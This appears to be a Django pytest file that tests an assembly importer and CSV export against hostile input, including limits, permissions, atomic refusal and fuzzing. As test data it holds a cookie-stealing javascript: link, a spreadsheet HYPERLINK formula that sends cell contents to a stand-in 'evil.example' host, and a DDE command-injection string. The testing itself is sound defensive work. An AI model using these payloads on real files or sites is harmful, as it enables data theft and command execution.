"""Imports that cannot hurt: every row validated by its model, links only http(s), limits on
size with a clear refusal, the importer administers what an import creates and never writes
into someone else's organization, nothing written on refusal; the import page's rights; the
CSV files neutralise spreadsheet formulas; and a fuzz test of the importer."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from assemblea.accountability import services as accountability
from assemblea.accountability.models import Comment
from assemblea.accounts.models import Organization, OrganizationMembership, OrganizationRole, User
from assemblea.assemblies.models import Assembly, DelegateAllocation, SeatHolder
from assemblea.core.models import Event
from assemblea.decisions.models import Ballot
from assemblea.deliberation.models import Evidence, RoomRules
from assemblea.opendata import services
from assemblea.opendata.export import assembly_document, document_json, document_zip
from tests.decisions.conftest import build_room, poll_decided

pytestmark = pytest.mark.django_db


def _source(make_assembly: Any, make_user: Any) -> Any:
    """A small assembly with a record: seats, a secret vote, a recommendation, evidence."""
    room = build_room(make_assembly(), make_user, members=4)
    poll = poll_decided(room, yes=3)
    accountability.recommendation_from_poll(
        actor=room.facilitator, poll=poll, addressed_to="Testville Council"
    )
    Evidence.objects.create(
        assembly=room.assembly,
        kind="document",
        title="Crash data",
        link="https://example.org/crashes",
        provided_by="Testville Police",
        perspective="police",
    )
    room.document = json.loads(document_json(assembly_document(room.assembly)))
    return room


def _written() -> tuple[int, ...]:
    return (
        Assembly.objects.count(),
        User.objects.count(),
        Organization.objects.count(),
        OrganizationMembership.objects.count(),
        SeatHolder.objects.count(),
        Ballot.objects.count(),
        Event.objects.count(),
    )


def _refused(actor: Any, document: Any, **options: Any) -> list[str]:
    before = _written()
    with pytest.raises(services.ImportRefused) as refused:
        services.assembly_import(actor=actor, document=document, **options)
    assert _written() == before, "a refused import wrote something"
    assert refused.value.problems
    return refused.value.problems


@pytest.fixture
def source(make_assembly: Any, make_user: Any) -> Any:
    return _source(make_assembly, make_user)


@pytest.fixture
def importer(make_user: Any) -> Any:
    return make_user("importer")


def test_every_row_is_validated_by_its_model_and_links_are_http(source: Any, importer: Any) -> None:
    document = copy.deepcopy(source.document)
    document["evidence"][0]["link"] = "javascript:alert(document.cookie)"
    document["seat_categories"][0]["seats"] = 10**19
    document["organizations"][0]["website"] = "ftp://example.org/"
    document["assembly"]["slug"] = "not a slug!"
    problems = _refused(importer, document)
    assert (
        "evidence[0].link: “javascript:alert(document.cookie)” is not a web address starting "
        "with http:// or https://; other kinds of links are refused."
    ) in problems
    assert any(p.startswith("organizations[0].website: “ftp://example.org/”") for p in problems)
    assert any(p.startswith("seat_categories[0].seats: Ensure this value") for p in problems)
    assert any(p.startswith("assembly.slug: ") for p in problems)
    assert "“not a slug!” is not a web address name: use letters, digits and hyphens." in problems

    document = copy.deepcopy(source.document)
    document["evidence"][0]["link"] = "https://example.org/fine"
    result = services.assembly_import(actor=importer, document=document, slug="copy")
    assert Evidence.objects.get(assembly=result.assembly).link == "https://example.org/fine"


def test_too_large_too_many_or_too_deep_is_refused_with_the_limits(
    source: Any, importer: Any, monkeypatch: Any
) -> None:
    limits = "An import takes at most 20 MB, 50000 rows per collection, 2000 named people"
    raw = json.dumps(source.document)

    deep = '{"a": ' * 100_000 + "1" + "}" * 100_000
    with pytest.raises(services.ImportRefused) as refused:
        services.document_load(deep)
    assert refused.value.problems[0].startswith("The file's JSON is nested too deeply")
    assert refused.value.problems[1].startswith(limits)

    nested = copy.deepcopy(source.document)
    nested["timeline"][0]["data"] = json.loads("[" * 40 + "]" * 40)
    with pytest.raises(services.ImportRefused) as refused:
        services.document_load(json.dumps(nested))
    assert refused.value.problems[0] == (
        "timeline[0].data" + "[0]" * 29 + ": nested more than 32 levels deep."
    )

    for text, reason in (
        (raw.replace('"weight": "1.0000"', '"weight": NaN', 1), "NaN, Infinity"),
        (raw.replace('"Plenary"', '"Ple\\u0000nary"'), "sessions[0].title: the text holds"),
        (raw.replace('"Plenary"', '"\\ud800"'), "sessions[0].title: the text holds"),
        (b"\xff\xfe" + raw.encode(), "not UTF-8"),
        ("[1, 2]", "one JSON object"),
        ('{"n": ' + "9" * 5000 + "}", "thousands of digits"),
    ):
        with pytest.raises(services.ImportRefused) as refused:
            services.document_load(text)
        assert reason in refused.value.problems[0], reason

    monkeypatch.setattr(services.limits, "MAX_DOCUMENT_BYTES", 1000)  # where the limits live
    with pytest.raises(services.ImportRefused, match="too large"):
        services.document_load(raw)

    monkeypatch.setattr(services.limits, "MAX_ROWS", 3)  # where the limits live
    monkeypatch.setattr(services.limits, "MAX_PEOPLE", 0)  # where the limits live
    problems = _refused(importer, copy.deepcopy(source.document), slug="copy")
    assert any(p.startswith("ballots: 4 rows, more than the 3 an import takes") for p in problems)
    assert any(re.match(r"people: \d named people, more than the 0 accounts", p) for p in problems)
    assert problems[-1].startswith("An import takes at most")


def test_the_importer_administers_what_it_creates_and_nothing_of_others(
    source: Any, importer: Any, make_user: Any, city: Any
) -> None:
    # The document names a member organization whose web address name is taken here by an
    # organization the importer does not administer.
    tenants = Organization.objects.create(name="Tenants United", slug="tenants", kind="labor")
    document = copy.deepcopy(source.document)
    document["organizations"].append(
        {
            "id": 999,
            "name": "Tenants United",
            "slug": "tenants",
            "kind": "labor",
            "description": "",
            "website": "",
        }
    )
    document["delegate_allocations"].append(
        {"id": 1, "seats": 2, "alternates": 0, "category": 1, "organization": 999}
    )
    document["delegate_allocations"][0]["category"] = document["seat_categories"][0]["id"]

    assert _refused(None, document, slug="copy")[0].startswith("An import needs the account")
    # Not into an organization the importer does not administer (the City is the organizer's).
    problems = _refused(importer, document, slug="copy", organization=city)
    assert problems == [
        "You do not administer “City of Testville”: import into an organization you administer."
    ]

    result = services.assembly_import(actor=importer, document=document, slug="copy")
    convening = result.assembly.organization
    assert convening != city and convening.slug == "city-of-testville-2"
    allocation = DelegateAllocation.objects.get(category__assembly=result.assembly)
    assert allocation.organization != tenants and allocation.organization.slug == "tenants-2"
    for organization in (convening, allocation.organization):
        assert list(organization.memberships.values_list("user", "role")) == [
            (importer.pk, OrganizationRole.ADMIN)
        ]
    assert not tenants.memberships.exists() and not city.delegate_allocations.exists()

    # Where the importer administers it, the organization is reused.
    OrganizationMembership.objects.create(
        organization=tenants, user=importer, role=OrganizationRole.ADMIN
    )
    again = services.assembly_import(actor=importer, document=document, slug="again")
    assert again.reused_organizations == ["Tenants United"]
    assert DelegateAllocation.objects.get(category__assembly=again.assembly).organization == tenants


def test_the_command_line_needs_an_organizer_and_may_name_the_organization(
    source: Any, importer: Any, city: Any, tmp_path: Any
) -> None:
    path = tmp_path / "a.json"
    path.write_text(json.dumps(source.document))
    with pytest.raises(CommandError, match="--organizer"):
        call_command("import_assembly", str(path), "--slug", "copy")
    out = io.StringIO()
    call_command(
        "import_assembly",
        str(path),
        "--slug",
        "copy",
        "--organizer",
        "importer",
        "--organization",
        city.slug,
        stdout=out,
    )
    assert Assembly.objects.get(slug="copy").organization == city
    path.write_text(json.dumps(source.document).replace("https://example.org", "javascript:x"))
    before = _written()
    with pytest.raises(CommandError, match=r"evidence\[0\]\.link: “javascript:x/crashes”"):
        call_command("import_assembly", str(path), "--slug", "copy2", "--organizer", "importer")
    assert _written() == before


def test_clashing_rows_are_refused_and_undone(source: Any, importer: Any) -> None:
    RoomRules.objects.get_or_create(assembly=source.assembly)
    document = json.loads(document_json(assembly_document(source.assembly)))
    (rules,) = document["room_rules"]
    document["room_rules"] = [rules, {**rules, "id": rules["id"] + 1}]  # two for one assembly
    problems = _refused(importer, document, slug="copy")
    assert problems[0].startswith("Rows of the document clash where this instance allows")
    # One receipt twice in one vote: found before anything is written, said plainly.
    document = copy.deepcopy(source.document)
    document["receipts"][1]["receipt"] = document["receipts"][0]["receipt"]
    problems = _refused(importer, document, slug="copy")
    assert any("is listed 2 times for poll" in problem for problem in problems)


def test_formulas_typed_in_public_fields_are_not_run_from_the_csv_files(source: Any) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    recommendation = source.assembly.recommendations.get()
    Comment.objects.create(recommendation=recommendation, author=source.members[1], text=formula)
    # A member's name as typed in the public registration form, named with their consent.
    SeatHolder.objects.filter(pk=source.seats[0].pk).update(
        name="@SUM(1+1)*cmd|' /C calc'!A0", consents_to_be_named=True
    )
    archive = zipfile.ZipFile(io.BytesIO(document_zip(assembly_document(source.assembly))))
    comments = list(csv.DictReader(io.StringIO(archive.read("comments.csv").decode())))
    assert comments[0]["text"] == "'" + formula
    names = {
        row["name"]
        for row in csv.DictReader(io.StringIO(archive.read("seat_holders.csv").decode()))
    }
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                assert not any(cell.startswith(("=", "@", "+")) for cell in row), name


def test_the_import_page_is_for_administrators_of_the_organization(
    source: Any, client: Any, make_user: Any, city: Any
) -> None:
    url = reverse("opendata:import")
    raw = document_json(source.document).encode()
    before = _written()

    def post(organization: Any) -> Any:
        return client.post(
            url,
            {
                "document": SimpleUploadedFile("a.json", raw),
                "organization": organization.pk,
                "slug": "copy",
            },
        )

    anonymous = post(city)
    assert anonymous.status_code == 302 and "/login" in anonymous["Location"]

    member = make_user("member-no-org")
    client.force_login(member)
    before = _written()
    assert "Create an organization" in client.get(url).content.decode()
    refused = post(city)
    assert refused.status_code == 200 and "Check and import" not in refused.content.decode()
    assert _written() == before

    other_admin = make_user("other-admin")
    otherville = Organization.objects.create(
        name="Otherville", slug="otherville", kind="civil_society"
    )
    OrganizationMembership.objects.create(
        organization=otherville, user=other_admin, role=OrganizationRole.ADMIN
    )
    client.force_login(other_admin)
    before = _written()
    refused = post(city)  # the City's, not theirs
    assert refused.status_code == 200 and "Select a valid choice" in refused.content.decode()
    assert _written() == before

    deep = client.post(
        url,
        {
            "document": SimpleUploadedFile("a.json", b"[" * 200_000 + b"]" * 200_000),
            "organization": otherville.pk,
        },
    )
    assert deep.status_code == 200 and "nested too deeply" in deep.content.decode()
    done = post(otherville)
    assert done.status_code == 302
    assert Assembly.objects.get(slug="copy").organization == otherville


# --- Fuzzing ---------------------------------------------------------------------------

SPECIAL_TEXT = st.sampled_from(
    [
        "javascript:alert(1)",
        "=HYPERLINK(1)",
        "\x00",
        "\ud800",
        "9" * 40,
        "2026-02-30",
        "2026-12-03T25:00:00",
        "",
        "x" * 5000,
        "closed",
        "secret",
    ]
)
JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**20), max_value=10**20)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20)
    | SPECIAL_TEXT,
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=8,
)
MUTATIONS = st.lists(
    st.tuples(
        st.integers(min_value=0), st.sampled_from(["replace", "delete", "copy"]), JSON_VALUES
    ),
    min_size=1,
    max_size=4,
)


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    paths = [prefix]
    if isinstance(value, dict):
        for key, inner in value.items():
            paths += _paths(inner, (*prefix, key))
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            paths += _paths(inner, (*prefix, index))
    return paths


def _mutated(document: dict[str, Any], mutations: list[Any]) -> Any:
    document = copy.deepcopy(document)
    for number, kind, value in mutations:
        paths = _paths(document)[1:]
        if not paths:
            break
        *parent_path, last = paths[number % len(paths)]
        parent: Any = document
        for part in parent_path:
            parent = parent[part]
        if kind == "replace":
            parent[last] = value
        elif kind == "delete":
            del parent[last]
        elif isinstance(parent, list):
            parent.append(copy.deepcopy(parent[last]))
        else:
            parent[f"{last}_copy"] = copy.deepcopy(parent[last])
    return document


@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=True,
)
@given(mutations=MUTATIONS)
def test_fuzz_a_mutated_document_is_imported_whole_or_refused_whole(
    source: Any, importer: Any, mutations: list[Any]
) -> None:
    document = _mutated(source.document, mutations)
    document.setdefault("assembly", {})
    if isinstance(document["assembly"], dict):
        document["assembly"]["slug"] = "fuzzed"
    before = _written()
    try:
        with transaction.atomic():
            try:
                result = services.assembly_import(
                    actor=importer, document=services.document_load(json.dumps(document))
                )
            except services.ImportRefused as refused:
                event("refused")
                assert refused.problems and all(isinstance(p, str) for p in refused.problems)
                assert _written() == before
                return
            event("accepted")
            assert Assembly.objects.filter(pk=result.assembly.pk).exists()
            assert _written() > before
            raise _Undo
    except _Undo:
        pass


class _Undo(Exception):
    """Undo an accepted import, so the next example starts from the same database."""


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=True,
)
@given(cut=st.integers(min_value=0), junk=st.binary(max_size=40))
def test_fuzz_broken_files_on_the_import_page_never_answer_500(
    source: Any, client: Any, make_user: Any, cut: int, junk: bytes
) -> None:
    admin = User.objects.filter(username="fuzz-admin").first() or make_user("fuzz-admin")
    organization, _created = Organization.objects.get_or_create(
        slug="fuzzville", defaults={"name": "Fuzzville", "kind": "civil_society"}
    )
    OrganizationMembership.objects.get_or_create(
        organization=organization, user=admin, role=OrganizationRole.ADMIN
    )
    client.force_login(admin)
    raw = document_json(source.document).encode()
    position = cut % (len(raw) + 1)
    broken = raw[:position] + junk + raw[position + len(junk) :]
    before = _written()
    response = client.post(
        reverse("opendata:import"),
        {
            "document": SimpleUploadedFile("a.json", broken),
            "organization": organization.pk,
            "slug": "fuzzed-page",
        },
    )
    assert response.status_code in (200, 302)
    if response.status_code == 200:
        assert _written() == before


def test_bad_input_to_the_open_data_pages_is_a_message_or_a_404_never_a_500(
    source: Any, client: Any, make_user: Any
) -> None:
    admin = make_user("admin")
    mine = Organization.objects.create(name="Mine", slug="mine", kind="civil_society")
    OrganizationMembership.objects.create(
        organization=mine, user=admin, role=OrganizationRole.ADMIN
    )
    client.force_login(admin)
    url = reverse("opendata:import")
    for data in (
        {"organization": "abc", "document": SimpleUploadedFile("a.json", b"{}")},
        {"organization": str(10**30)},
        {"organization": mine.pk, "document": SimpleUploadedFile("a.bin", bytes(range(256)))},
        {"organization": mine.pk, "document": SimpleUploadedFile("a.json", b"\x00" * 1000)},
        {"organization": mine.pk, "slug": "../../x", "document": SimpleUploadedFile("a", b"{}")},
    ):
        assert client.post(url, data).status_code == 200, data
    slug = source.assembly.slug
    assert client.get(f"/a/{slug}/open-data.json?x=%00").status_code == 200
    assert client.get("/a/no-such-assembly/open-data.zip").status_code == 404
    assert client.get("/open-data/schema/99999999999999999999.json").status_code == 404


def test_an_upload_over_the_limit_is_not_stored_and_is_refused_with_the_limit(
    source: Any, client: Any, make_user: Any, monkeypatch: Any
) -> None:
    admin = make_user("admin")
    mine = Organization.objects.create(name="Mine", slug="mine", kind="civil_society")
    OrganizationMembership.objects.create(
        organization=mine, user=admin, role=OrganizationRole.ADMIN
    )
    client.force_login(admin)
    monkeypatch.setattr(services, "MAX_DOCUMENT_BYTES", 3 * 1024 * 1024)
    before = _written()
    response = client.post(
        reverse("opendata:import"),
        {
            "document": SimpleUploadedFile("a.json", b" " * (4 * 1024 * 1024)),
            "organization": mine.pk,
        },
    )
    assert response.status_code == 200
    assert "The file is larger than 3 MB, the most an import takes." in response.content.decode()
    assert _written() == before
    # The CSRF check still runs on the page (it is done once the limit is in place).
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(admin)
    refused = strict.post(reverse("opendata:import"), {"organization": mine.pk})
    assert refused.status_code == 403
